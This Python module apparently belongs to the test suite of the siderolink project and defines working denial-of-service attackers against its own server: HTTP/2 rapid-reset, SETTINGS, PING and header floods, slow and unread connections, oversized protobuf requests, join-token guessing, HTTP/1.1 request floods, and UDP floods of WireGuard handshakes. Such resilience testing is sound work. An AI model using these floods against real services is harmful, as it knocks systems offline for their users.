"""The attackers of `attack.py`: each kind is one connection, or one socket, that is replaced when it ends."""

import asyncio
import contextlib
import json
import os
import socket
import ssl
import struct
import time
import uuid
from collections import Counter
from collections.abc import Awaitable, Callable
from dataclasses import dataclass
from typing import Any, cast

from hpack import Encoder

from siderolink.common.goodbye import GOODBYE_PORT, Goodbye
from siderolink.common.grpc import frames
from siderolink.common.keys import PublicKey
from siderolink.common.pb.sidero.link import ProvisionRequest
from siderolink.common.protobuf_wire import encode_varint
from siderolink.common.wireguard.noise import Engine
from siderolink.common.wireguard.noise.messages import INITIATION
from tests.support.serving import SERVER

OVERLAY = "fdae:41e4:649b:9303::1"
API_PORT, WIREGUARD_PORT, METRICS_PORT, ADMIN_PORT, WEB_PORT = 4000, 51820, 9100, 4443, 8443
SINK_PORT, LOG_PORT = 8091, 8092

PROVISION = "/sidero.link.ProvisionService/Provision"
STREAM = "/sidero.link.WireGuardOverGRPCService/CreateStream"
CHECK, WATCH = "/grpc.health.v1.Health/Check", "/grpc.health.v1.Health/Watch"
REFLECT = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"


class Stranger:
    """One connection of the attacker."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.reader, self.writer = reader, writer
        self.encoder = Encoder()
        self.stream_id = -1

    def call(self, path: str, *more: tuple[str, str]) -> bytes:
        """The headers of a new call."""
        self.stream_id += 2
        fields = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "x")]
        block = self.encoder.encode([*fields, ("content-type", "application/grpc"), ("te", "trailers"), *more])
        return frames.frame_header(len(block), frames.HEADERS, frames.END_HEADERS, self.stream_id) + block

    def data(self, payload: bytes, *, end: bool = False) -> bytes:
        return frames.frame_header(len(payload), frames.DATA, int(end), self.stream_id) + payload

    async def send(self, wire: bytes) -> None:
        self.writer.write(wire)
        await self.writer.drain()

    async def read_all(self) -> None:
        with contextlib.suppress(OSError):
            while await self.reader.read(1 << 16):
                pass


def frame(kind: int, flags: int, stream_id: int, payload: bytes) -> bytes:
    return frames.frame_header(len(payload), kind, flags, stream_id) + payload


def message(payload: bytes, length: int | None = None) -> bytes:
    return b"\0" + (len(payload) if length is None else length).to_bytes(4) + payload


def field(number: int, value: bytes) -> bytes:
    """A length-delimited field."""
    return encode_varint(number << 3 | 2) + encode_varint(len(value)) + value


STATUS_EVENT = b"type.googleapis.com/machine.MachineStatusEvent"


def settings(entries: list[tuple[int, int]]) -> bytes:
    return frame(frames.SETTINGS, 0, 0, b"".join(struct.pack(">HI", *entry) for entry in entries))


async def repeat(peer: Stranger, make: Callable[[], bytes]) -> None:
    while True:
        await peer.send(make())
        await asyncio.sleep(0)


async def settings_entries(peer: Stranger) -> None:
    await repeat(peer, lambda: settings([(number, 7) for number in range(0x100, 0x100 + 10_000)]))


async def settings_frames(peer: Stranger) -> None:
    await repeat(peer, lambda: settings([(1, 0xFFFF_FFFF), *[(number, 7) for number in range(0x100, 0x120)]]))


async def made_resets(peer: Stranger) -> None:
    await repeat(peer, lambda: peer.call(STREAM) + frames.window_update(peer.stream_id, 0x7FFF_FFFF))


async def rapid_resets(peer: Stranger) -> None:
    await repeat(peer, lambda: peer.call(CHECK) + frame(frames.RST_STREAM, 0, peer.stream_id, bytes(4)))


async def unfinished(peer: Stranger) -> None:
    for _ in range(100):
        await peer.send(peer.call(PROVISION) + peer.data(message(bytes(8_000), 8_192)))
    await asyncio.sleep(5)


async def unfinished_frames(peer: Stranger) -> None:
    await peer.send(peer.call(PROVISION) + frames.frame_header(60_000, frames.DATA, 0, 1) + bytes(59_000))
    await asyncio.sleep(5)


async def endless(peer: Stranger) -> None:
    for path in (REFLECT, WATCH) * 60:
        await peer.send(peer.call(path) + (peer.data(message(b""), end=True) if path == WATCH else b""))
    await asyncio.sleep(5)


async def unread(peer: Stranger) -> None:
    cast("asyncio.Transport", peer.writer.transport).pause_reading()
    ask = message(b"\x22\x0fprovision.proto")
    for _ in range(8):
        await peer.send(peer.call(REFLECT))
    for _ in range(2000):
        await peer.send(peer.data(ask))
    await asyncio.sleep(5)


async def fields(peer: Stranger) -> None:
    await repeat(peer, lambda: peer.call(PROVISION) + peer.data(message(b"\x38\x00" * 4_000), end=True))


async def fat(peer: Stranger) -> None:
    body = message(b"\x38\x00" * 32_000)
    cuts = range(0, len(body), 16_384)
    await repeat(peer, lambda: peer.call(PROVISION) + b"".join(peer.data(body[at : at + 16_384]) for at in cuts))


async def tokens(peer: Stranger) -> None:
    request = bytes(ProvisionRequest(node_uuid=str(uuid.uuid4()), node_public_key="A" * 43 + "=", join_token="guess"))
    await repeat(peer, lambda: peer.call(PROVISION) + peer.data(message(request), end=True))


async def small_data(peer: Stranger) -> None:
    await peer.send(peer.call(PROVISION))
    await repeat(peer, lambda: peer.data(b"\0") * 500)


async def big_headers(peer: Stranger) -> None:
    block = b"\x00\x01a\x7f\xe1\x5e" + b"a" * 12_000
    await repeat(peer, lambda: peer.call(CHECK) + frame(frames.HEADERS, frames.END_HEADERS, peer.stream_id + 2, block))


async def table_changes(peer: Stranger) -> None:
    await repeat(peer, lambda: frame(frames.HEADERS, frames.END_HEADERS, 1, b"\x20" * 16_000 + b"\x82"))


async def padding(peer: Stranger) -> None:
    await peer.send(peer.call(PROVISION))
    await repeat(peer, lambda: frame(frames.DATA, frames.PADDED, peer.stream_id, b"\xc8" + bytes(200)) * 100)


def flood(kind: int, flags: int, stream_id: int, payload: bytes) -> Callable[[Stranger], Awaitable[None]]:
    async def attack(peer: Stranger) -> None:
        await repeat(peer, lambda: frame(kind, flags, stream_id, payload) * 200)

    return attack


async def churn(peer: Stranger) -> None:
    await peer.send(peer.call(CHECK) + peer.data(message(b""), end=True))


# --- the admin API, by TLS


async def wrong_keys(peer: Stranger) -> None:
    """Calls with keys that are none, and with a request of many fields, which nobody should decode."""
    field = ("authorization", f"Bearer slk_{'x' * 43}")
    body = message(b"\x98\x06\x01" * 20_000)
    await repeat(peer, lambda: peer.call("/siderolink.admin.v1.ServerService/GetStatus", field) + peer.data(body[:16_000]))


# --- metrics and the web UI, by HTTP/1.1


def requests(text: str, body: bytes = b"") -> Callable[[Stranger], Awaitable[None]]:
    """The same request again and again."""
    wire = text.replace("\n", "\r\n").encode() + b"\r\n\r\n" + body

    async def attack(peer: Stranger) -> None:
        await repeat(peer, lambda: wire)

    return attack


async def silence(peer: Stranger) -> None:
    await asyncio.sleep(5)


async def trickle(peer: Stranger) -> None:
    await peer.send(b"GET / HTTP/1.1\r\nX: ")
    await repeat(peer, lambda: b"x")


def unread_page(text: str) -> Callable[[Stranger], Awaitable[None]]:
    async def attack(peer: Stranger) -> None:
        cast("asyncio.Transport", peer.writer.transport).pause_reading()
        await peer.send(text.replace("\n", "\r\n").encode() + b"\r\n\r\n")
        await asyncio.sleep(5)

    return attack


WEB_HOST = f"Host: {SERVER}:{WEB_PORT}"
FORM = f"{WEB_HOST}\nOrigin: https://{SERVER}:{WEB_PORT}\nContent-Type: application/x-www-form-urlencoded"
METRICS = f"GET /metrics HTTP/1.1\nHost: {SERVER}"

# --- reports, by a hostile machine inside the overlay

PUBLISH = "/events.EventSinkService/Publish"


def events(event: bytes) -> Callable[[Stranger], Awaitable[None]]:
    body = message(event)
    cuts = range(0, len(body), 16_384)

    async def attack(peer: Stranger) -> None:
        await repeat(peer, lambda: peer.call(PUBLISH) + b"".join(peer.data(body[at : at + 16_384]) for at in cuts))

    return attack


def lines(text: bytes) -> Callable[[Stranger], Awaitable[None]]:
    async def attack(peer: Stranger) -> None:
        await repeat(peer, lambda: text)

    return attack


async def nothing(peer: Stranger) -> None:
    """A connection that ends at once."""


# --- datagrams


SENT: Counter[int] = Counter()
"""Datagrams by port."""


DATAGRAMS_PER_SECOND = 7_000
"""Of each kind: many times what a server answers without a cookie. More would measure how many packets this host can carry."""


async def flood_datagrams(sock: socket.socket, target: tuple[str, int], datagrams: bytes, size: int) -> None:
    """Send datagrams of one size, up to 64 with each call."""
    with contextlib.suppress(OSError):
        sock.setsockopt(17, 103, size)  # UDP_SEGMENT
    count = len(datagrams) // size
    while True:
        next_at = time.monotonic() + count / DATAGRAMS_PER_SECOND
        with contextlib.suppress(OSError):  # the kernel cannot segment for this device, or its buffer is full
            sock.sendto(datagrams, target)
            SENT[target[1]] += count
        await asyncio.sleep(max(next_at - time.monotonic(), 0))


async def handshakes(server_key: str) -> None:
    """Well-made initiations of an unknown key, in bursts."""
    engine = Engine(os.urandom(32), entropy=os.urandom, unix_time_ns=time.time_ns, ciphers=cast("Any", None))
    made: list[bytes] = []
    for _ in range(64):
        peer = engine.add_peer(bytes(PublicKey.parse(server_key)))
        peer.path = cast("Any", _Nowhere())
        engine.handshake(peer, time.monotonic())
        made += [bytes(datagram) for _, datagram in engine.output.take_datagrams() if datagram[0] == INITIATION]
        engine.remove_peer(peer.public_key)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM | socket.SOCK_NONBLOCK) as sock:
        await flood_datagrams(sock, (SERVER, WIREGUARD_PORT), b"".join(made), len(made[0]))


class _Nowhere:
    source, peer, is_open = b"", None, True


async def goodbyes(own_key: str) -> None:
    datagram = Goodbye(public_key=PublicKey.parse(own_key)).encode()
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM | socket.SOCK_NONBLOCK) as sock:
        await flood_datagrams(sock, (OVERLAY, GOODBYE_PORT), datagram, len(datagram))


async def log_datagrams(_: str) -> None:
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM | socket.SOCK_NONBLOCK) as sock:
        await flood_datagrams(sock, (OVERLAY, LOG_PORT), b'{"msg":"x"}', 11)


Attack = Callable[[Stranger], Awaitable[None]]


@dataclass(frozen=True, slots=True)
class Kind:
    """One kind of attack by connections."""

    attack: Attack
    port: int = API_PORT
    begins: bytes = frames.PREFACE + settings([])
    is_tls: bool = False
    is_inside: bool = False
    reads: bool = True


KINDS: dict[str, Kind] = {
    "settings": Kind(settings_entries),
    "settings-frames": Kind(settings_frames),
    "made-resets": Kind(made_resets),
    "resets": Kind(rapid_resets),
    "unfinished": Kind(unfinished),
    "unfinished-frames": Kind(unfinished_frames),
    "endless": Kind(endless),
    "unread": Kind(unread, reads=False),
    "fields": Kind(fields),
    "fat": Kind(fat),
    "tokens": Kind(tokens),
    "small-data": Kind(small_data),
    "big-headers": Kind(big_headers),
    "table-changes": Kind(table_changes),
    "padding": Kind(padding),
    "ping": Kind(flood(frames.PING, 0, 0, bytes(8))),
    "priority": Kind(flood(frames.PRIORITY, 0, 3, bytes(5))),
    "unknown": Kind(flood(0xEE, 0, 1, bytes(1000))),
    "window": Kind(flood(frames.WINDOW_UPDATE, 0, 0, b"\0\0\0\1")),
    "churn": Kind(churn),
    "metrics": Kind(requests(METRICS), METRICS_PORT, b""),
    "metrics-ready": Kind(requests("GET /readyz HTTP/1.1"), METRICS_PORT, b""),
    "metrics-unread": Kind(unread_page(METRICS), METRICS_PORT, b"", reads=False),
    "metrics-silent": Kind(silence, METRICS_PORT, b""),
    "metrics-trickle": Kind(trickle, METRICS_PORT, b""),
    "metrics-churn": Kind(nothing, METRICS_PORT, b""),
    "admin-keys": Kind(wrong_keys, ADMIN_PORT, is_tls=True),
    "admin-settings": Kind(settings_entries, ADMIN_PORT, is_tls=True),
    "admin-handshakes": Kind(nothing, ADMIN_PORT, b"", is_tls=True),
    "web-pages": Kind(requests(f"GET /sign-in HTTP/1.1\n{WEB_HOST}"), WEB_PORT, b"", is_tls=True),
    "web-static": Kind(requests(f"GET /static/page.css HTTP/1.1\n{WEB_HOST}"), WEB_PORT, b"", is_tls=True),
    "web-keys": Kind(requests(f"POST /sign-in HTTP/1.1\n{FORM}\nContent-Length: 9", b"key=slk_x"), WEB_PORT, b"", is_tls=True),
    "web-chunks": Kind(
        requests(f"POST /sign-in HTTP/1.1\n{FORM}\nTransfer-Encoding: chunked", b"1\r\na\r\n" * 40_000),
        WEB_PORT,
        b"",
        is_tls=True,
    ),
    "web-handshakes": Kind(nothing, WEB_PORT, b"", is_tls=True),
    "events-fat": Kind(
        events(field(1, field(1, STATUS_EVENT) + field(2, field(2, b"\x12\x00" * 110_000)))), SINK_PORT, is_inside=True
    ),
    "events-small": Kind(events(field(1, field(1, STATUS_EVENT))), SINK_PORT, is_inside=True),
    "events-fields": Kind(events(b"\x98\x06\x01" * 60_000), SINK_PORT, is_inside=True),
    "sink-settings": Kind(settings_entries, SINK_PORT, is_inside=True),
    "sink-resets": Kind(rapid_resets, SINK_PORT, is_inside=True),
    "sink-churn": Kind(nothing, SINK_PORT, b"", is_inside=True),
    "lines": Kind(lines(b"x\n" * 30_000), LOG_PORT, b"", is_inside=True),
    "lines-empty": Kind(lines(b"\n" * 60_000), LOG_PORT, b"", is_inside=True),
    "lines-endless": Kind(lines(b"x" * 60_000), LOG_PORT, b"", is_inside=True),
    "lines-churn": Kind(nothing, LOG_PORT, b"", is_inside=True),
}
DATAGRAMS: dict[str, tuple[bool, int, Callable[[str], Awaitable[None]]]] = {
    "handshakes": (False, WIREGUARD_PORT, handshakes),
    "goodbyes": (True, GOODBYE_PORT, goodbyes),
    "log-datagrams": (True, LOG_PORT, log_datagrams),
}
"""Attacks by datagrams: whether they come from inside the overlay, their port, and what sends them, given a key."""


async def attack(kinds: list[str], connections: int, seconds: float, key: str) -> None:
    """Attack with each kind on `connections` connections at a time, replacing each that ends; prints how many there were.

    `key` is the server's public key, or inside the overlay the machine's own.
    """
    until = time.monotonic() + seconds
    opened = dict.fromkeys(kinds, 0)
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE

    async def one(kind: str) -> None:
        while time.monotonic() < until:
            found = KINDS[kind]
            tls = context if found.is_tls else None
            if tls is not None:
                tls.set_alpn_protocols(["http/1.1" if found.port == WEB_PORT else "h2"])
            try:
                async with asyncio.timeout(5):
                    reader, writer = await asyncio.open_connection(OVERLAY if found.is_inside else SERVER, found.port, ssl=tls)
            except (OSError, TimeoutError):
                await asyncio.sleep(0.05)
                continue
            opened[kind] += 1
            peer = Stranger(reader, writer)
            reading = asyncio.create_task(peer.read_all()) if found.reads else None
            try:
                async with asyncio.timeout(max(0.01, min(8.0, until - time.monotonic()))):
                    await peer.send(found.begins)
                    await found.attack(peer)
            except (OSError, TimeoutError):
                pass
            finally:
                writer.transport.abort()
                if reading is not None:
                    reading.cancel()
            await asyncio.sleep(0.01)

    async def flood_with(kind: str) -> None:
        with contextlib.suppress(TimeoutError):
            async with asyncio.timeout(seconds):
                await DATAGRAMS[kind][2](key)
        opened[kind] = SENT[DATAGRAMS[kind][1]]

    by_datagrams = [flood_with(kind) for kind in kinds if kind in DATAGRAMS]
    await asyncio.gather(*by_datagrams, *(one(kind) for kind in kinds if kind in KINDS for _ in range(connections)))
    print(json.dumps(opened))
